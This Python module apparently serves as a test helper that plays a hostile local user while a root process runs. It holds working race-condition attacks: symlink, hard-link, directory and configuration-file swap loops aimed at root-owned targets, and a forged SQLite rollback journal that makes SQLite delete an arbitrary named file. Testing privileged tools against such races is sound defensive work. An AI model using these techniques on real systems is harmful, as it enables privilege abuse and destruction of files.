"""What another user does beside root's run: files and directories that change all the time."""

from __future__ import annotations

import contextlib
import itertools
import os
import sqlite3
import struct
import sys
import time
from collections.abc import Callable
from pathlib import Path

ATTACKER = 4321
_MAGIC = bytes.fromhex("d9d505f920a163d7")
_PAGE = 4096


def plant_hot_journal(database: Path, victim: Path) -> None:
    """Put a database down with the rollback journal of a killed transaction that belonged to a larger one: `victim`.

    SQLite rolls it back and deletes the file that the journal names (pager.c, pager_delsuper).
    """
    with contextlib.suppress(FileNotFoundError):
        database.unlink()
    with contextlib.closing(sqlite3.connect(database)) as connection:
        connection.execute("CREATE TABLE t (x)")
        connection.commit()
    pages = database.stat().st_size // _PAGE
    name = str(victim).encode()
    header = (_MAGIC + struct.pack(">IIIII", 0, 1, pages, 512, _PAGE)).ljust(512, b"\0")
    trailer = struct.pack(">I", 0x40000000 // _PAGE + 1) + name + struct.pack(">II", len(name), sum(name)) + _MAGIC
    database.with_name(f"{database.name}-journal").write_bytes(header + trailer)


def _swap_link(path: Path, victim: Path) -> None:
    """A file, and a link to what is root's, in turns."""
    other = path.with_name(f".{path.name}")
    while True:
        other.write_bytes(b"mine")
        other.replace(path)
        other.symlink_to(victim)
        other.replace(path)


def _swap_hard_link(path: Path, victim: Path) -> None:
    """Another name of what is root's, and none, in turns."""
    while True:
        with contextlib.suppress(OSError):
            os.link(victim, path)
        with contextlib.suppress(OSError):
            path.unlink()


def _replace_directory(path: Path, victim: Path) -> None:
    """A directory is no sooner made than it is moved away, with a link to what is root's in its place for a moment."""
    for number in itertools.count():
        with contextlib.suppress(OSError):
            path.rename(path.with_name(f"aside-{number}"))
            path.symlink_to(victim)
            time.sleep(0.0005)
        with contextlib.suppress(OSError):
            path.unlink()


def _swap_configuration(path: Path, victim: Path) -> None:
    """Root's configuration and another one in turns, both kept in the directory `victim`: in their own, users may."""
    while True:
        for name in ("ours", "theirs"):
            with contextlib.suppress(OSError):
                (victim / name).rename(path)
                time.sleep(0.0003)
                path.rename(victim / name)


DEEDS: dict[str, Callable[[Path, Path], None]] = {
    "swap_link": _swap_link,
    "swap_hard_link": _swap_hard_link,
    "replace_directory": _replace_directory,
    "swap_configuration": _swap_configuration,
}


if __name__ == "__main__":
    os.setgroups([])
    os.setresgid(ATTACKER, ATTACKER, ATTACKER)
    os.setresuid(ATTACKER, ATTACKER, ATTACKER)
    print("ready", flush=True)
    DEEDS[sys.argv[1]](Path(sys.argv[2]), Path(sys.argv[3]))
